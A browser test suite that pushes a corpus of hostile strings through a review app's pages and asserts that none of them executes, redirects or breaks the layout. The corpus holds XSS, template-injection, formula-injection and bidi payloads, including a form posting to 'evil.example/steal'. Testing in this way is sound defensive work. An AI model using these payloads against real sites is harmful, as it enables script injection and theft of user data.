"""A hostile corpus through queue, answer, review and audit, looked at by a real Chromium: nothing runs, nothing breaks the page."""

import socket
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import uvicorn

from overnight.ledger import reviews
from overnight.ledger.connect import Ledger
from overnight.queues.preview import preview
from overnight.ui import access, app, given
from tests.conftest import Sandbox, missing
from tests.support.browser import CHROMIUM, DESK, Watched, chromium
from tests.support.night import EVENING, Night, queue_rows
from tests.support.reviewed import NOW, brief, draft, entries, shown
from tests.support.visitors import HOME, Guest

pytestmark = pytest.mark.browser
LONG = 50_000
CORPUS = {
    "script": "<script>window.pwned=1;alert(1)</script>",
    "image": '<img src=x onerror="window.pwned=1;alert(2)">',
    "svg": "<svg/onload=window.pwned=1><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe></foreignObject></svg>",
    "attribute": '" autofocus onfocus="window.pwned=1" x="',
    "closing": "</textarea></td></table></main><script>window.pwned=1</script><h1>Owned</h1>",
    "comment": "<!-- --><style>*{display:none}</style><base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "link": '<a href="javascript:window.pwned=1">click</a> javascript:window.pwned=1',
    "form": "</form><form action='https://evil.example/steal' method=post><button>Approve</button></form>",
    "template": "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7} #{7*7}",
    "formula": '=HYPERLINK("https://evil.example";"click") +1+1 -1 @SUM(A1)',
    "bidi": "invoice \u202egnp.exe \u2066hidden\u2069 \u200f\u200e\ufeff\u200b z\u0334\u0321\u0322\u0489a\u0300\u0301\u0302\u0303lgo",
    "control": "a\x00b\x07c\x1b[31mred\x1b[0m\x08\x7f\x85\u2028line\u2029paragraph",
    "surrogate": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
    "one word": "W" * LONG,
    "long markup": "<b onmouseover=window.pwned=1>" * (LONG // 30),
}
"""What a row, a model, a reviewer or a colleague's name may hold."""


@pytest.fixture(scope="module")
def browser(request: pytest.FixtureRequest) -> Iterator[Any]:
    if CHROMIUM is None:
        missing(request, "chromium (Debian: apt-get install chromium)")
    yield from chromium()


@contextmanager
def served(ledger: Ledger, now: Any, guest: Guest) -> Iterator[str]:
    """Our app on loopback, with this visitor at the door."""
    made = app.build_app()
    made.dependency_overrides[given.books] = lambda: ledger
    made.dependency_overrides[given.clock] = now
    made.dependency_overrides[access.logged_in] = lambda: None
    made.dependency_overrides[access.visitor] = lambda: guest
    with socket.socket() as door:
        door.bind(("127.0.0.1", 0))
        server = uvicorn.Server(uvicorn.Config(made, log_level="error"))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [door]}, daemon=True)
        thread.start()
        end = time.monotonic() + 20
        while not server.started:
            assert time.monotonic() < end, "the app did not start"
            time.sleep(0.02)
        try:
            yield f"http://127.0.0.1:{door.getsockname()[1]}"
        finally:
            server.should_exit = True
            thread.join(20)


def aside(work: Any) -> None:
    """In a thread of its own: the browser's driver has a loop on ours, and a night starts one."""
    with ThreadPoolExecutor(1) as pool:
        pool.submit(work).result()


def look(browser: Any, url: str) -> Any:
    """Open a page, hold it against everything that must not be; returns the page."""
    page = browser.new_context(viewport=DESK).new_page()
    watched = Watched(page)
    answer = page.goto(url)
    assert answer.status == 200, (url, answer.status)
    assert watched.errors == [], (url, watched.errors)
    assert page.evaluate("window.pwned") is None, url
    assert {host for host in watched.hosts if "evil" in host} == set()
    assert page.url == url, "led somewhere else"
    assert page.locator("nav.main a").count() == 6, "the page is not whole"
    assert page.evaluate("document.querySelectorAll('main').length") == 1
    assert (
        page.locator("iframe, base, object, embed, style, main script, [onerror], [onload], [onfocus], [onmouseover]").count()
        == 0
    )
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth + 1"), f"{url} is pushed out of the window"
    assert page.evaluate("[...document.forms].every((form) => new URL(form.action).host === location.host)")
    assert page.evaluate("[...document.links].every((link) => link.protocol === location.protocol)")
    return page


def test_from_the_queue_through_the_vendor_to_the_pages(
    sqlite_ledger: Ledger, queue: Path, vendors: Sandbox, browser: Any
) -> None:
    """Rows whose every field attacks: looked ahead to, locked or refused, answered, shown, decided with an attacking note."""
    rows = [
        {
            "review_id": f"r{n} {text[:40]}",
            "sku": text[:60],
            "rating": "1",
            "title": text[:150],
            "body": f"It burned me. {text[:4_000]}",
        }
        for n, text in enumerate(CORPUS.values())
    ]
    queue_rows(queue, "review_sentiment", rows)
    night = Night(sqlite_ledger, "review_sentiment")
    aside(lambda: preview(sqlite_ledger, "review_sentiment", now=EVENING - timedelta(hours=2)))
    with served(sqlite_ledger, lambda: EVENING - timedelta(hours=1), Guest("ada", admin=True)) as url:
        look(browser, f"{url}/")
    aside(night.run)
    with served(sqlite_ledger, night.clock, Guest("ada", admin=True)) as url:
        night_id = night.row()["id"]
        for path in (
            f"/night/{night_id}",
            f"/review/{night_id}",
            f"/review/{night_id}?view=grid",
            "/audit?notable=false",
            "/nights",
        ):
            look(browser, f"{url}{path}")
    assert night.problems() == []


def test_whatever_a_model_a_reviewer_or_a_name_may_say(sqlite_ledger: Ledger, browser: Any) -> None:
    """Every field of a draft, every note, a reviewer's own name: shown as text, in the list, the grid, the item, the log."""
    outputs = [{**draft(n), "title": text, "meta_description": text} for n, text in enumerate(CORPUS.values())]
    briefs = [{**brief(n), "title": text, "primary_query": text} for n, text in enumerate(CORPUS.values())]
    _, night = shown(sqlite_ledger, "page", outputs, inputs=briefs)
    evil = Guest(CORPUS["script"])
    items = entries(sqlite_ledger, night)
    with served(sqlite_ledger, lambda: NOW, evil) as url:
        review = f"{url}/review/{night['id']}"
        for item, text in zip(items, CORPUS.values(), strict=True):
            page = look(browser, f"{review}/item/{item['id']}")
            form = {
                "item_id": str(item["id"]),
                "output_hash": item["output_hash"] or "",
                "decision": "rework",
                "reason_code": "weak_hook",
                "note": text[:3_900],
            }
            answer = page.request.post(f"{review}/decide", form=form, headers={**HOME, "accept": "application/json"})
            assert answer.status in (200, 409)
            look(browser, f"{review}/item/{item['id']}")
            page.context.close()
        for path in (review, f"{review}?view=grid", f"{url}/audit", f"{url}/audit/week", f"{url}/audit?actor=%3Cscript%3E"):
            look(browser, path)
    with sqlite_ledger.read() as conn:
        assert len(reviews.effective(conn, night["id"])) >= len(CORPUS) - 2


def test_no_page_is_heavy_with_fifty_thousand_characters_in_a_cell(sqlite_ledger: Ledger, browser: Any) -> None:
    """The list and the grid show the beginning; the item has all of it to edit."""
    texts = [CORPUS["one word"], CORPUS["long markup"]] * 13
    _, night = shown(sqlite_ledger, "page", [{**draft(n), "title": text} for n, text in enumerate(texts)])
    with served(sqlite_ledger, lambda: NOW, Guest("ada")) as url:
        for query in ("", "?view=grid"):
            page = look(browser, f"{url}/review/{night['id']}{query}")
            size = page.evaluate("document.documentElement.outerHTML.length")
            assert size < 300_000, size
        item = entries(sqlite_ledger, night)[0]
        page = look(browser, f"{url}/review/{night['id']}/item/{item['id']}")
        assert len(page.locator("textarea[name='edited.title']").input_value()) == LONG
